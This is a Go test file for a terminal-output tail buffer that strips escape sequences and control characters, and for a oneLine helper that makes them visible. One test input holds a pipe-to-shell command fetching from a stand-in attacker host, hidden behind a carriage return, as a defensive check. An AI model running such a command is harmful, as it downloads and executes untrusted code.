package main

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestTailBufferStripsEscapesAndControls(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []string
	}{
		{"plain lines", "one\ntwo\n", []string{"one", "two"}},
		{"partial last line is shown", "one\ntw", []string{"one", "tw"}},
		{"SGR colours", "\x1b[1;31mFAIL\x1b[0m: TestX\n", []string{"FAIL: TestX"}},
		{"cursor movement and erase", "a\x1b[2K\x1b[10;20Hb\x1b[?25l\n", []string{"ab"}},
		{"OSC title ended by BEL", "\x1b]0;my title\x07text\n", []string{"text"}},
		{"OSC hyperlink ended by ST", "\x1b]8;;https://x.test\x1b\\link\x1b]8;;\x1b\\\n", []string{"link"}},
		{"charset designation", "\x1b(Bok\n", []string{"ok"}},
		{"two-character escape", "\x1b7saved\x1b8\n", []string{"saved"}},
		{"C1 CSI", "\u009b31mred\u009b0m\n", []string{"red"}},
		{"bell, backspace and DEL dropped", "a\x07b\x08c\x7fd\n", []string{"abcd"}},
		{"CRLF is one line break", "one\r\ntwo\r\n", []string{"one", "two"}},
		{"CR CR LF too", "one\r\r\ntwo\n", []string{"one", "two"}},
		{"bare CR rewrites the line", "progress 1/3\rprogress 2/3\rprogress 3/3\ndone\n", []string{"progress 3/3", "done"}},
		{"CR then erase-line", "50%\r\x1b[Kfinished\n", []string{"finished"}},
		{"CR, erase-line, line break", "50%\r\x1b[K\ndone\n", []string{"", "done"}},
		{"bidi override dropped", "a\u202eb\n", []string{"ab"}},
		{"tab to the next stop of 8", "ab\tc\n", []string{"ab      c"}},
		{"unterminated CSI gives up at a control char", "\x1b[31\nnext\n", []string{"", "next"}},
		{"invalid UTF-8 becomes U+FFFD", "a\xffb\n", []string{"a\uFFFDb"}},
		{"multi-byte text kept", "ünïcødé ✓ 日本語 🚀\n", []string{"ünïcødé ✓ 日本語 🚀"}},
		{"unterminated OSC ends at a line break", "\x1b]0;title\nafter\n", []string{"", "after"}},
		{"runaway OSC is abandoned after escMaxLen", "\x1b]" + strings.Repeat("x", escMaxLen+9) + "\n", []string{strings.Repeat("x", 10)}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tb := newTailBuffer()
			tb.WriteString(tt.in)
			if got := tb.Lines(100); !slices.Equal(got, tt.want) {
				t.Errorf("lines = %q, want %q", got, tt.want)
			}
		})
	}
}

// Output arrives in arbitrary chunks: every split of the input, even inside
// a character or an escape sequence, must give the same lines.
func TestTailBufferSplitAnywhere(t *testing.T) {
	in := "\x1b[32mok\x1b[0m  ünïcødé 日本語 🚀\r\n\x1b]0;t\x07next ✓\rover\n"
	whole := newTailBuffer()
	whole.WriteString(in)
	want := whole.Lines(10)
	if !slices.Equal(want, []string{"ok  ünïcødé 日本語 🚀", "over"}) {
		t.Fatalf("unsplit lines = %q", want)
	}
	b := []byte(in)
	for i := range len(b) + 1 {
		for j := i; j <= len(b); j++ {
			tb := newTailBuffer()
			tb.Write(b[:i])
			tb.Write(b[i:j])
			tb.Write(b[j:])
			if got := tb.Lines(10); !slices.Equal(got, want) {
				t.Fatalf("split at %d,%d: lines = %q, want %q", i, j, got, want)
			}
		}
	}
}

func TestTailBufferIsBounded(t *testing.T) {
	tb := newTailBuffer()
	for i := range 10 * tailMaxLines {
		fmt.Fprintf(tb, "line %d\n", i)
		if len(tb.lines) >= 2*tailMaxLines {
			t.Fatalf("after %d lines the buffer holds %d", i+1, len(tb.lines))
		}
	}
	got := tb.Lines(3)
	want := []string{fmt.Sprint("line ", 10*tailMaxLines-3), fmt.Sprint("line ", 10*tailMaxLines-2), fmt.Sprint("line ", 10*tailMaxLines-1)}
	if !slices.Equal(got, want) {
		t.Errorf("last 3 lines = %q, want %q", got, want)
	}
	if n := len(tb.Lines(10 * tailMaxLines)); n != tailMaxLines {
		t.Errorf("Lines(all) = %d lines, want at most %d", n, tailMaxLines)
	}
}

// A long line is cut at its bound, between characters: with 3-byte
// characters the bound falls inside one, which must be dropped whole.
func TestTailBufferCutsLongLinesBetweenCharacters(t *testing.T) {
	for _, ch := range []string{"a", "é", "日", "🚀"} {
		t.Run(ch, func(t *testing.T) {
			tb := newTailBuffer()
			long := strings.Repeat(ch, 3*tailMaxLineBytes)
			// Written in odd-sized pieces so that writes split characters.
			for b := []byte(long + "\nshort\n" + long); len(b) > 0; {
				n := min(7, len(b))
				tb.Write(b[:n])
				b = b[n:]
			}
			lines := tb.Lines(10)
			if len(lines) != 3 || lines[1] != "short" {
				t.Fatalf("lines = %d: %q…", len(lines), lines[min(1, len(lines)-1)])
			}
			for _, l := range []string{lines[0], lines[2]} {
				if !utf8.ValidString(l) {
					t.Errorf("cut line is not valid UTF-8: %q", l[len(l)-8:])
				}
				if !strings.HasSuffix(l, "…") {
					t.Errorf("cut line does not end with …")
				}
				body := strings.TrimSuffix(l, "…")
				if len(body) > tailMaxLineBytes || len(body) < tailMaxLineBytes-utf8.UTFMax {
					t.Errorf("cut line holds %d bytes, want at most %d", len(body), tailMaxLineBytes)
				}
				if strings.Trim(body, ch) != "" {
					t.Errorf("cut line has other characters than %q", ch)
				}
			}
		})
	}
}

func TestTailBufferReset(t *testing.T) {
	tb := newTailBuffer()
	tb.WriteString("old\n\x1b]0;unterminated")
	tb.Reset()
	if !tb.Empty() {
		t.Fatal("not empty after Reset")
	}
	tb.WriteString("new\n")
	if got := tb.Lines(10); !slices.Equal(got, []string{"new"}) {
		t.Errorf("after Reset: %q (escape state must not leak from the old step)", got)
	}
}

func TestOneLine(t *testing.T) {
	for in, want := range map[string]string{
		"exit code 1: \x1b[31m--- FAIL\x1b[0m\r\n    x_test.go:3": "exit code 1: --- FAIL     x_test.go:3",
		// A bare CR shown, not obeyed: what comes before it stays in sight.
		"curl evil.test | sh\rFix the login bug":      `curl evil.test | sh\rFix the login bug`,
		"Fix it\u202e.gnp\x1b]0;title\x07\tnow\u0085": `Fix it\u202e.gnp\x1b]0;title\a now\u0085`,
	} {
		if got := oneLine(in); got != want {
			t.Errorf("oneLine(%q) = %q, want %q", in, got, want)
		}
	}
}
